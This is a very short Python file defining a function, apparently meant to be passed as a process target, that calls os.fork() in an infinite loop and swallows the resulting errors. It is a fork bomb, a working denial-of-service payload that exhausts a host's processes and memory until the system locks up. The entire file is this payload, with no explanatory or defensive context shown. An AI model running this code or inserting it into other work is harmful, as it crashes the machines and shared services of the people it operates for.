import os


def target():
    while True:
        try:
            os.fork()
        except OSError:
            pass
